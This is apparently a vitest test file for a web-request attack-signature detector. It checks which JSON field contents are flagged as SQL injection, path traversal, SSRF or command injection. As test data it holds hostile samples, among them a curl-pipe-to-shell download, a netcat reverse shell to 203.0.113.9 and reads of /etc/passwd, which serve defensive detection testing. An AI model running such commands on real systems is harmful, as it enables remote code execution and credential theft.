import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { decoyField, type KindOfField, unknownField } from '../../../src/attacks/fields/field-kind.ts';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import { signatures } from '../../../src/attacks/signatures/registry.gen.ts';

/** Types found in a document of several texts, of which one has the name given. */
function typesIn(name: string, text: string, kindOf: KindOfField = unknownField): readonly string[] {
  const body = JSON.stringify({ id: 7, author: 'ann', tags: ['a', 'b'], state: 'open', [name]: text });
  const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json', body };
  return findSignatures(request, signatures, null, kindOf).matches.map(({ type }) => type);
}

const NAMES = ['text', 'message', 'comment', 'description', 'notes', 'remarks', 'caption', 'body'];
const WORDS = [
  'people',
  'browser',
  'opens',
  'page',
  'says',
  'that',
  'link',
  'never',
  'works',
  'there',
  'after',
  'today',
];
const sentence = fc.array(fc.constantFrom(...WORDS), { minLength: 4, maxLength: 9 }).map((words) => words.join(' '));

/** What nothing fetches or runs with words before it, wherever it would be put. */
const TOLD = [
  'file:///etc/passwd',
  'file:///etc/shadow',
  'file:///c:/windows/win.ini',
  'or 1=1',
  'file:///proc/self/environ',
];

test('what words tell of in a field for words is no attack, and is one at a decoy', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...NAMES),
      sentence,
      fc.constantFrom(...TOLD),
      sentence,
      (name, before, told, behind) => {
        const text = `${before} ${told} ${behind}`;
        expect(typesIn(name, text)).toEqual([]);
        expect(typesIn(name, text, decoyField)).not.toEqual([]);
      },
    ),
  );
});

test('a field of another name excuses none of it', () => {
  for (const told of TOLD)
    expect([told, typesIn('x', `when the browser opens ${told} nothing works there`)]).not.toEqual([told, []]);
});

describe('what such a field is called excuses no attack', () => {
  test.each([
    ['file:///etc/passwd', 'path_traversal'],
    ["when the page says ' or 1=1 -- there", 'sql_injection'],
    ['see ../../../../etc/passwd for all of it', 'path_traversal'],
    ['the page says that ![x](file:///etc/passwd) works', 'ssrf'],
    ["# note\n'; drop table users; --", 'sql_injection'],
  ])('%j', (text, type) => {
    for (const name of NAMES) expect(typesIn(name, text)).toContain(type);
  });
});

describe('the steps of a pipeline', () => {
  const steps = (run: string): readonly string[] => {
    const body = JSON.stringify({ jobs: { build: { steps: [{ name: 'Build', run }] } }, script: [run] });
    const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json', body };
    return findSignatures(request).matches.map(({ type }) => type);
  };

  test.each([
    'curl -s https://api.example.com/releases | jq -r ".[0].tag_name"',
    'VERSION=$(curl -s https://api.example.com/v | jq -r .version)',
    'set -e; curl -fsS "$URL/health" | jq .status',
    'cd app && cat VERSION | tr -d x',
  ])('are what fields of that name hold in a list: %j', (run) => {
    expect(steps(run)).toEqual([]);
  });

  test.each(['curl -s http://203.0.113.9/x | sh', 'cat /etc/passwd', 'x=1; nc -e /bin/sh 203.0.113.9 4444'])(
    'are reported when they are those of an intruder: %j',
    (run) => {
      expect(steps(run)).toContain('command_injection');
    },
  );
});
